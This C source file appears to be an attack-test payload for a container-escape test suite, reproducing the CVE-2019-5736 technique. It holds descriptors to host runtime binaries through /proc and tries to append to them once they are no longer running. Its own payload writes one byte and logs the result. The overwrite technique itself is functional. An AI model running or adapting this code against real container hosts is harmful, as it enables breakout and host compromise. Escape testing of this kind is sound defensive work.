/* Attack-test payload (escape.test.ts, class 1, CVE-2019-5736): run inside a container
 * with CAP_SYS_PTRACE. Loop over every other process in /proc; keep an O_PATH fd of the
 * file behind each /proc/<pid>/exe (the runtime's binary, while a runtime process is in
 * the container's pid namespace), and keep trying to reopen those fds for writing and
 * append one byte: the kernel refuses (ETXTBSY) only while something still runs the file.
 * Each success is logged to argv[1]. Runs until killed. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define MAX_HELD 256

int main(int argc, char **argv)
{
	static struct { int fd; dev_t dev; ino_t ino; char link[256]; } held[MAX_HELD];
	int nheld = 0;
	char self[32], exe[64], link[4096], fdp[64];
	if (argc != 2)
		return 2;
	int log = open(argv[1], O_WRONLY | O_APPEND | O_CREAT, 0644);
	snprintf(self, sizeof self, "%d", getpid());
	for (long round = 0;; round++) {
		DIR *d = opendir("/proc");
		struct dirent *e;
		while (d && (e = readdir(d))) {
			if (e->d_name[0] < '0' || e->d_name[0] > '9' || !strcmp(e->d_name, self))
				continue;
			snprintf(exe, sizeof exe, "/proc/%s/exe", e->d_name);
			ssize_t n = readlink(exe, link, sizeof link - 1);
			if (n < 0)
				continue;
			link[n] = 0;
			if (!strcmp(link, "/bin/busybox") || strstr(link, "exe-writer"))
				continue; /* the container's own programs */
			int fd = open(exe, O_PATH | O_CLOEXEC);
			struct stat st;
			if (fd < 0 || fstat(fd, &st) < 0 || nheld == MAX_HELD) {
				if (fd >= 0)
					close(fd);
				continue;
			}
			int dup = 0;
			for (int i = 0; i < nheld; i++)
				dup |= held[i].dev == st.st_dev && held[i].ino == st.st_ino;
			if (dup) {
				close(fd);
				continue;
			}
			held[nheld].fd = fd;
			held[nheld].dev = st.st_dev;
			held[nheld].ino = st.st_ino;
			snprintf(held[nheld].link, sizeof held[nheld].link, "%s", link);
			dprintf(log, "holding pid %s exe %s\n", e->d_name, link);
			nheld++;
		}
		if (d)
			closedir(d);
		for (int i = 0; i < nheld; i++) {
			if (held[i].fd < 0)
				continue;
			snprintf(fdp, sizeof fdp, "/proc/self/fd/%d", held[i].fd);
			int w = open(fdp, O_WRONLY | O_APPEND);
			if (w < 0)
				continue;
			if (write(w, "X", 1) == 1)
				dprintf(log, "WROTE exe %s\n", held[i].link);
			else
				dprintf(log, "opened exe %s for writing, write refused\n", held[i].link);
			close(w);
			close(held[i].fd);
			held[i].fd = -1;
		}
		if (round == 0)
			dprintf(log, "scanning\n");
	}
}
